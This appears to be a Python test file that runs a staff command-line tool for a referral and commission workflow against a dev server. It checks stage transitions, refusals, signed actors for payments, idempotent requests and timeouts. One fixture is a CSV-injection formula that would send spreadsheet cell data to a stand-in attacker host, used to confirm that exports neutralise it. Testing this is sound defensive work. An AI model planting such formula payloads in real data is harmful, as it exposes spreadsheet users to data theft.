"""The staff CLI as a user runs it: a subprocess against the dev server, exit codes and lines."""

from __future__ import annotations

import asyncio
import csv
import getpass
import io
import json
import socket
import time
import uuid
from datetime import UTC, datetime
from pathlib import Path

from devstack.factories import referral_input, submission_data
from devstack.settings import SETTINGS
from starter.cli import DEFAULT_TIMEOUT_SECONDS as DEFAULT_TIMEOUT
from tests.conftest import Cli, Live, Result
from workflows.models.program import ProgramRules
from workflows.referral import ReferralWorkflow

# What the CLI adds to a claimed actor (--actor, REFERRALS_ACTOR) without a staff identity.
VIA = f"(via cli: {getpass.getuser()}@{socket.gethostname()})"


def write_submission(tmp_path: Path, **changes: object) -> Path:
    site = f"https://cli-{uuid.uuid4().hex[:8]}.example"
    data = submission_data(**{"prospect.website": site, **changes})
    path = tmp_path / f"{uuid.uuid4().hex}.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def refused(result: Result, fragment: str) -> None:
    assert result.code == 1, result
    assert result.out == ""
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and fragment in lines[0], result.err


async def test_walk_a_referral_through_every_step(cli: Cli, tmp_path: Path) -> None:
    # A name typed into the public form as a spreadsheet formula (CSV injection).
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Claire")'
    submitted = await cli("submit", str(write_submission(tmp_path, **{"referrer.name": formula})))
    assert submitted.code == 0, submitted
    rid = submitted.out.strip()
    assert rid.startswith("R-")

    shown = await cli("show", rid, "--json")
    assert shown.code == 0
    state = json.loads(shown.out)
    for key in (
        "referral_id", "stage", "referrer", "prospect", "contact", "opportunity",
        "submitted_at", "contact_reminder_at", "contact_deadline", "contact_sla_breached",
        "commission", "history",
    ):  # fmt: skip
        assert key in state
    assert state["stage"] == "submitted" and state["commission"] is None
    assert state["contact_deadline"].endswith(("+01:00", "+02:00"))
    assert state["history"][0]["actor"] == f"desk-anna {VIA}"

    refused(await cli("approve", rid), "approve is not allowed in stage submitted")
    assert json.loads((await cli("show", rid, "--json")).out) == state

    steps = [
        ("--actor", "bob", "contacted", rid, "--note", "phoned Claire"),
        ("accept", rid),
        ("approve", rid, "--note", "budget confirmed"),
    ]
    for step in steps:
        done = await cli(*step)
        assert done.code == 0, done
    # A CLI that neither knows who it acts as (REFERRALS_STAFF_IDENTITY) nor is a dev stack's
    # signs nothing, whatever key it holds: money does not move on a typed name.
    unsigned = {"REFERRALS_ACTOR_SIGNING_KEY": SETTINGS.actor_signing_key.text()}  # type: ignore[union-attr]
    refused(
        await cli("won", rid, "--amount", "180000", "--currency", "EUR", env_changes=unsigned),
        "won moves money: it needs an actor signed by",
    )
    refused(await cli("won", rid, "--amount", "abc", "--currency", "EUR"), "--amount")
    refused(await cli("won", rid, "--amount", "-3", "--currency", "EUR"), "positive amount")
    won = await cli("won", rid, "--amount", "180000", "--currency", "EUR")
    assert won.code == 0 and "stage won" in won.out
    assert (await cli("payment", rid, "--amount", "100000", "--reference", "INV-1")).code == 0
    refused(
        await cli("payment", rid, "--amount", "100000", "--reference", "INV-1"),
        "already recorded",
    )
    final = await cli("payment", rid, "--amount", "80000", "--reference", "INV-2")
    assert final.code == 0 and "commission_payable" in final.out
    refused(await cli("cancel", rid, "--reason", "late"), "cancel is not allowed")
    assert (await cli("payout", rid, "--reference", "VIR-77")).code == 0

    state = json.loads((await cli("show", rid, "--json")).out)
    assert state["stage"] == "commission_paid"
    assert state["commission"]["amount"] == "18000.00"
    assert state["commission"]["customer_paid"] == "180000.00"
    assert state["commission"]["status"] == "paid"
    actions = [(h["action"], h["actor"]) for h in state["history"]]
    assert actions[:3] == [
        ("submitted", f"desk-anna {VIA}"),
        ("contacted", f"bob {VIA}"),
        ("accept", f"desk-anna {VIA}"),
    ]
    refused(await cli("payout", rid, "--reference", "again"), "closed")

    readable = await cli("show", rid)
    assert (
        readable.code == 0 and "commission_paid" in readable.out and "phoned Claire" in readable.out
    )

    ledger = json.loads((await cli("commissions", "--json")).out)
    [row] = [r for r in ledger if r["referral_id"] == rid]
    assert row["status"] == "paid" and row["amount"] == "18000.00" and row["currency"] == "EUR"
    assert set(row) >= {
        "referral_id",
        "referrer_email",
        "amount",
        "currency",
        "status",
        "updated_at",
    }
    exported = (await cli("commissions", "--status", "paid", "--csv")).out
    [line] = [r for r in csv.DictReader(io.StringIO(exported)) if r["referral_id"] == rid]
    assert line["referrer_name"] == f"'{formula}"  # shown as text, never run
    assert line["amount"] == "18000.00"


async def test_negative_branches(cli: Cli, tmp_path: Path) -> None:
    async def new() -> str:
        result = await cli("submit", str(write_submission(tmp_path)))
        assert result.code == 0, result
        return result.out.strip()

    declined, rejected, lost, cancelled = [await new() for _ in range(4)]
    assert (await cli("decline", declined, "--reason", "not a fit")).code == 0
    for rid in (rejected, lost):
        assert (await cli("contacted", rid)).code == 0
        assert (await cli("accept", rid)).code == 0
    assert (await cli("reject", rejected, "--reason", "no budget")).code == 0
    assert (await cli("approve", lost)).code == 0
    assert (await cli("lost", lost, "--reason", "went with a competitor")).code == 0
    assert (await cli("cancel", cancelled, "--reason", "duplicate entry")).code == 0
    for rid, stage in [
        (declined, "declined"),
        (rejected, "rejected"),
        (lost, "lost"),
        (cancelled, "cancelled"),
    ]:
        state = json.loads((await cli("show", rid, "--json")).out)
        assert state["stage"] == stage
        refused(await cli("contacted", rid), "closed")


async def test_refusals_and_usage_errors(cli: Cli, tmp_path: Path) -> None:
    refused(await cli("show", "R-NOSUCHTHING"), "unknown referral R-NOSUCHTHING")
    refused(await cli("contacted", "R-NOSUCHTHING"), "unknown referral")
    public = write_submission(tmp_path, **{"prospect.sector": "public"})
    refused(await cli("submit", str(public)), "public sector excluded")
    on_prem = write_submission(tmp_path, **{"opportunity.product": "ln-on-premises"})
    refused(await cli("submit", str(on_prem)), "not a multi-tenant cloud product")
    refused(await cli("submit", str(write_submission(tmp_path, consent=False))), "consent")
    refused(await cli("submit", str(tmp_path / "missing.json")), "cannot read")
    duplicate = write_submission(tmp_path)
    assert (await cli("submit", str(duplicate))).code == 0
    refused(await cli("submit", str(duplicate)), "already has an open referral")
    usage = await cli("decline", "R-X")  # --reason is required
    assert usage.code == 2 and "--reason" in usage.err
    assert (await cli("frobnicate")).code == 2


async def test_exit_status_is_stable_over_many_calls(cli: Cli, tmp_path: Path) -> None:
    """The SDK can abort at interpreter shutdown (sdk-python#300); the CLI must not let it."""
    rid = (await cli("submit", str(write_submission(tmp_path)))).out.strip()
    results = [await cli("show", rid, "--json") for _ in range(40)]
    assert [r.code for r in results] == [0] * 40
    assert all(json.loads(r.out)["referral_id"] == rid for r in results)
    listed = await cli("list", "--json")
    assert listed.code == 0 and isinstance(json.loads(listed.out), list)


async def test_a_command_repeated_with_its_request_id_is_applied_once(
    cli: Cli, tmp_path: Path
) -> None:
    rid = (await cli("submit", str(write_submission(tmp_path)))).out.strip()
    first = await cli("--request-id", "req-7", "contacted", rid, "--note", "phoned")
    again = await cli("--request-id", "req-7", "contacted", rid, "--note", "phoned")
    assert first.code == again.code == 0, (first, again)
    assert "stage contacted" in again.out
    history = json.loads((await cli("show", rid, "--json")).out)["history"]
    assert [(h["action"], h["request_id"]) for h in history[1:]] == [("contacted", "req-7")]
    # Without --request-id, each call is a new request: the repeat is refused, not reapplied.
    refused(await cli("contacted", rid), "contacted is not allowed in stage contacted")


async def test_when_no_worker_answers_the_cli_says_so_in_one_line(
    cli: Cli, live: Live, rules: ProgramRules
) -> None:
    given = referral_input(
        rules, f"R-NOWORKER{uuid.uuid4().hex[:3].upper()}", received_at=datetime.now(UTC)
    )
    handle = await live.client.start_workflow(
        ReferralWorkflow.run, given, id=given.referral_id, task_queue="nobody-polls-this"
    )
    try:
        done = await cli("--timeout", "2", "contacted", given.referral_id)
        # The default timeout is longer than the server's update long-poll, which comes back
        # empty and used to be issued again and again: the whole call is bounded now.
        started = time.monotonic()
        by_default = await asyncio.wait_for(cli("accept", given.referral_id), DEFAULT_TIMEOUT + 15)
        elapsed = time.monotonic() - started
    finally:
        await handle.terminate(reason="test over")
    refused(done, "no worker answered within 2s")
    assert "--request-id cli-" in done.err
    refused(by_default, f"no worker answered within {DEFAULT_TIMEOUT:g}s")
    assert elapsed < DEFAULT_TIMEOUT + 5, elapsed
